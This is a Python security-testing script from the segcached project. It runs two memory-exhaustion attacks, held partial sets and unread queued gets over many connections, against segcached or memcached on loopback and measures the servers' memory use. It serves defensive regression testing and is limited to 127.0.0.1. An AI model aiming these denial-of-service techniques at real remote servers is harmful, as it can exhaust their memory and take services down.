#!/usr/bin/python3
# SPDX-License-Identifier: BSD-3-Clause
# Copyright (c) 2026 The segcached authors
"""Memory attacks on a running server, with its RSS (issue 35, findings 1-3):

  partial  N connections each send `set kI 0 0 VLEN` and all but 1,000
           bytes of the value, then nothing (a value held in flight);
  readers  a VLEN-byte value `big` is stored, then N connections each send
           GETS x `get big` and never read (replies queued for readers
           that fall behind).

For each: the heap is filled first (twice -m of 8,000-byte sets: a cache
in service), then the server's RSS before (VmRSS), its peak while the attack
holds (VmHWM is reset first where the kernel lets us, else the VmRSS
samples' maximum), then all attack connections are closed and VmRSS is
read again until it is back within 20% of before or 10 s passed. Prints
one line per attack, or JSON with --json.

Against any server on loopback whose pid is given:

    tools/security/memory-attack.py --port 11211 --pid $(pidof segcached) \\
        --attack partial --conns 1024

or starts segcached (posix stack) and memcached 1.6.18 itself, -m 64, and
runs both attacks on each with every -c 1024 connection attacking:

    tools/security/memory-attack.py --compare \\
        --segcached build/app/segcached/segcached --conns 1024

Loopback only; every loop is bounded (connections, bytes, seconds). The
attack sockets ask for a small receive buffer (8 KiB), so that what a
reader does not take stays mostly in the server and not in the kernel.
Standard library only.
"""
import argparse
import json
import os
import resource
import select
import signal
import socket
import subprocess
import sys
import tempfile
import time

HOST = "127.0.0.1"
IO_TIMEOUT = 10.0
SETTLE_MAX = 20.0       # seconds to wait for the server to stop moving bytes
RECOVER_MAX = 10.0      # seconds for RSS to come back after the attack
RECOVER_RATIO = 1.2
# Connections of the warm-up round: enough for every worker's malloc arena
# to have held its largest buffers once (glibc keeps up to twice the largest
# freed block at the top of a thread's arena, which malloc_trim does not
# give back), so that "before" is a server in use.
WARM_CONNS = 32


def status_kib(pid, field):
    with open("/proc/%d/status" % pid) as f:
        for line in f:
            if line.startswith(field + ":"):
                return int(line.split()[1])
    raise KeyError(field)


def rss_mb(pid):
    return status_kib(pid, "VmRSS") / 1024.0


def reset_hwm(pid):
    """Resets VmHWM to VmRSS (writing 5 to clear_refs, Linux 4.0+; needs
    the right to ptrace the process). False when it could not."""
    try:
        with open("/proc/%d/clear_refs" % pid, "w") as f:
            f.write("5")
        return True
    except OSError:
        return False


def raise_fd_limit(n):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = min(hard, max(soft, n + 64))
    if want > soft:
        resource.setrlimit(resource.RLIMIT_NOFILE, (want, hard))


def stats(port):
    """`stats` as a dict of strings."""
    s = socket.create_connection((HOST, port), timeout=IO_TIMEOUT)
    try:
        s.sendall(b"stats\r\n")
        buf = b""
        deadline = time.monotonic() + IO_TIMEOUT
        while not buf.endswith(b"END\r\n") and time.monotonic() < deadline:
            d = s.recv(65536)
            if not d:
                break
            buf += d
    finally:
        s.close()
    out = {}
    for line in buf.decode(errors="replace").split("\r\n"):
        p = line.split(" ", 2)
        if len(p) == 3 and p[0] == "STAT":
            out[p[1]] = p[2]
    return out


def store(port, key, value):
    s = socket.create_connection((HOST, port), timeout=IO_TIMEOUT)
    try:
        s.sendall(b"set %s 0 0 %d\r\n" % (key, len(value)) + value + b"\r\n")
        line = b""
        deadline = time.monotonic() + IO_TIMEOUT
        while not line.endswith(b"\r\n") and time.monotonic() < deadline:
            d = s.recv(256)
            if not d:
                break
            line += d
    finally:
        s.close()
    return line.strip()


def open_conns(port, n):
    conns = []
    for _ in range(n):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8192)
        s.settimeout(IO_TIMEOUT)
        s.connect((HOST, port))
        conns.append(s)
    return conns


def send_all(conns, payload_of, deadline):
    """Sends each connection its payload, all at once with select: a
    server that stops reading one does not stall the others. Returns how
    many connections took their whole payload (a reset or a deadline
    leaves the rest)."""
    left = {s.fileno(): [s, memoryview(payload_of(i))] for i, s in enumerate(conns)}
    poller = select.poll()
    for s in conns:
        s.setblocking(False)
        poller.register(s.fileno(), select.POLLOUT)
    done = 0
    while left and time.monotonic() < deadline:
        for fd, _ in poller.poll(500):
            e = left.get(fd)
            if e is None:
                continue
            try:
                n = e[0].send(e[1][:1 << 20])
            except BlockingIOError:
                continue
            except OSError:
                n = None  # reset by the server: it took no more
            if n is not None:
                e[1] = e[1][n:]
            if n is None or len(e[1]) == 0:
                done += n is not None
                del left[fd]
                poller.unregister(fd)
    return done


def settle(port, pid, peak):
    """Waits until the server's bytes_read and bytes_written stop moving
    for a second (at most SETTLE_MAX), sampling RSS; returns the peak."""
    last, still = None, 0
    deadline = time.monotonic() + SETTLE_MAX
    while time.monotonic() < deadline:
        peak = max(peak, rss_mb(pid))
        st = stats(port)
        now = (st.get("bytes_read"), st.get("bytes_written"))
        still = still + 1 if now == last else 0
        if still >= 4:
            break
        last = now
        time.sleep(0.25)
    return max(peak, rss_mb(pid))


def count_resets(conns):
    """Attack connections the server has reset or closed."""
    n = 0
    for s in conns:
        try:
            while True:
                d = s.recv(1 << 16)  # non-blocking since send_all
                if not d:
                    n += 1
                    break
        except BlockingIOError:
            pass
        except OSError:
            n += 1
    return n


def recover(pid, before):
    """Waits (at most RECOVER_MAX) for RSS to be back within 20% of
    before; returns (RSS then, seconds waited)."""
    t0 = time.monotonic()
    rss = rss_mb(pid)
    while rss > before * RECOVER_RATIO and time.monotonic() - t0 < RECOVER_MAX:
        time.sleep(0.2)
        rss = rss_mb(pid)
    return rss, time.monotonic() - t0


def fill_heap(port):
    """Twice -m (`limit_maxbytes`) of 8,000-byte sets (under the 16 KiB that
    segcached streams, so its stream counters are the attack's): the heap
    full and evicting, as a cache in service is. A value in flight is read
    into the heap since issue 35; without this the attack's own values
    would count as growth."""
    limit = int(stats(port).get("limit_maxbytes", 0))
    fill = b"f" * 8000
    quiet_sets(port, (b"set fill%d 0 0 %d noreply\r\n" % (i, len(fill)) + fill + b"\r\n"
                      for i in range(2 * limit // len(fill))))


def quiet_sets(port, requests):
    """Sends noreply requests on one connection, then waits for `version`'s
    answer: every one was taken."""
    s = socket.create_connection((HOST, port), timeout=IO_TIMEOUT)
    try:
        for r in requests:
            s.sendall(r)
        s.sendall(b"version\r\n")
        buf = b""
        deadline = time.monotonic() + IO_TIMEOUT
        while b"VERSION" not in buf and time.monotonic() < deadline:
            d = s.recv(4096)
            if not d:
                break
            buf += d
    finally:
        s.close()


def warm_up(port, kind, conns, vlen, gets, warm_conns=WARM_CONNS):
    """"Before" is a server in use, not a fresh one whose hash table and
    code pages were never touched: the attack's keys are stored (small
    values) and the attack runs once on warm_conns connections, closed."""
    quiet_sets(port, [b"".join(b"set k%d 0 0 1 noreply\r\nx\r\n" % i for i in range(conns))])
    socks = open_conns(port, min(conns, warm_conns))
    if kind == "partial":
        send_all(socks, lambda i: b"set k%d 0 0 %d\r\n" % (i, vlen) + b"v" * (vlen - 1000),
                 time.monotonic() + IO_TIMEOUT)
    else:
        send_all(socks, lambda i: b"get big\r\n" * gets, time.monotonic() + IO_TIMEOUT)
    time.sleep(0.5)
    for s in socks:
        s.close()


def attack(port, pid, kind, conns=300, vlen=1000000, gets=2000, warm_conns=WARM_CONNS):
    """Runs one attack; returns a dict of what was seen (MB are MiB)."""
    raise_fd_limit(conns)
    fill_heap(port)
    if kind == "readers":
        if store(port, b"big", b"b" * vlen) != b"STORED":
            raise RuntimeError("the server did not store a %d-byte value" % vlen)
    warm_up(port, kind, conns, vlen, gets, warm_conns)
    time.sleep(1.5)  # a control-thread tick: its trim of what warming freed
    before = rss_mb(pid)
    hwm = reset_hwm(pid)
    st0 = stats(port)
    socks = open_conns(port, conns)
    deadline = time.monotonic() + 60.0
    if kind == "partial":
        sent = send_all(socks, lambda i: b"set k%d 0 0 %d\r\n" % (i, vlen) +
                        b"v" * (vlen - 1000), deadline)
    else:
        sent = send_all(socks, lambda i: b"get big\r\n" * gets, deadline)
    peak = settle(port, pid, before)
    if hwm:
        peak = max(peak, status_kib(pid, "VmHWM") / 1024.0)
    resets = count_resets(socks)
    st1 = stats(port)
    for s in socks:
        s.close()
    after, waited = recover(pid, before)

    def delta(name):
        if name not in st1:
            return None
        return int(st1[name]) - int(st0.get(name, 0))

    return {
        "attack": kind, "conns": conns, "vlen": vlen, "sent_whole": sent,
        "rss_before_mb": round(before, 1), "rss_peak_mb": round(peak, 1),
        "rss_after_mb": round(after, 1), "recover_s": round(waited, 1),
        "resets_seen": resets,
        "conn_buffer_in_refused": delta("conn_buffer_in_refused"),
        "conns_slow_readers_closed": delta("conns_slow_readers_closed"),
        "tcp_buffer_memory": None,
    }


def settings(port):
    s = socket.create_connection((HOST, port), timeout=IO_TIMEOUT)
    try:
        s.sendall(b"stats settings\r\n")
        buf = b""
        deadline = time.monotonic() + IO_TIMEOUT
        while not buf.endswith(b"END\r\n") and time.monotonic() < deadline:
            d = s.recv(65536)
            if not d:
                break
            buf += d
    finally:
        s.close()
    out = {}
    for line in buf.decode(errors="replace").split("\r\n"):
        p = line.split(" ", 2)
        if len(p) == 3 and p[0] == "STAT":
            out[p[1]] = p[2]
    return out


def free_port():
    s = socket.socket()
    s.bind((HOST, 0))
    port = s.getsockname()[1]
    s.close()
    return port


def start(cmd, port, log):
    p = subprocess.Popen(cmd, stdout=log, stderr=subprocess.STDOUT, stdin=subprocess.DEVNULL)
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        if p.poll() is not None:
            raise RuntimeError("%s exited with %d" % (cmd[0], p.returncode))
        try:
            stats(port)
            return p
        except OSError:
            time.sleep(0.1)
    p.kill()
    raise RuntimeError("%s did not answer" % cmd[0])


def compare(args):
    """Both attacks on segcached (posix) and memcached, a fresh server each."""
    results = []
    servers = [("segcached", lambda port: [args.segcached, "--no-huge", "--", "--stack", "posix",
                                           "-l", HOST, "-p", str(port), "-U", "0",
                                           "-m", "64", "-c", str(args.max_conns)])]
    if args.memcached:
        servers.append(("memcached", lambda port: [args.memcached, "-m", "64", "-p", str(port),
                                                   "-l", HOST, "-U", "0", "-c",
                                                   str(args.max_conns)] +
                        (["-u", "nobody"] if os.geteuid() == 0 else [])))
    for name, cmd_of in servers:
        for kind in ("partial", "readers"):
            port = free_port()
            with tempfile.TemporaryFile() as log:
                p = start(cmd_of(port), port, log)
                try:
                    r = attack(port, p.pid, kind, args.conns, args.value_size, args.gets,
                               args.warm_conns)
                    r["server"] = name
                    budget = settings(port).get("tcp_buffer_memory")
                    r["tcp_buffer_memory"] = int(budget) if budget else None
                    results.append(r)
                finally:
                    p.send_signal(signal.SIGTERM)
                    try:
                        p.wait(timeout=30)
                    except subprocess.TimeoutExpired:
                        p.kill()
                        p.wait()
    return results


def main():
    ap = argparse.ArgumentParser(description=__doc__,
                                 formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--port", type=int)
    ap.add_argument("--pid", type=int)
    ap.add_argument("--attack", choices=("partial", "readers"), default="partial")
    ap.add_argument("--conns", type=int, default=300)
    ap.add_argument("--value-size", type=int, default=1000000)
    ap.add_argument("--gets", type=int, default=2000)
    ap.add_argument("--warm-conns", type=int, default=WARM_CONNS,
                    help="connections of the warm-up round before \"before\"")
    ap.add_argument("--compare", action="store_true")
    ap.add_argument("--segcached", default="build/app/segcached/segcached")
    ap.add_argument("--memcached", default="/usr/bin/memcached")
    ap.add_argument("--max-conns", type=int, default=0,
                    help="-c of the servers --compare starts (default: --conns + 64, "
                    "room for the stats connections beside the attack)")
    ap.add_argument("--json", action="store_true")
    args = ap.parse_args()
    if args.compare:
        args.max_conns = args.max_conns or args.conns + 64
        if not os.path.exists(args.memcached):
            args.memcached = None
        results = compare(args)
    else:
        if args.port is None or args.pid is None:
            ap.error("--port and --pid (or --compare)")
        results = [attack(args.port, args.pid, args.attack, args.conns, args.value_size,
                          args.gets, args.warm_conns)]
    for r in results:
        if args.json:
            print(json.dumps(r))
        else:
            print(" ".join("%s=%s" % kv for kv in r.items()))
    return 0


if __name__ == "__main__":
    sys.exit(main())
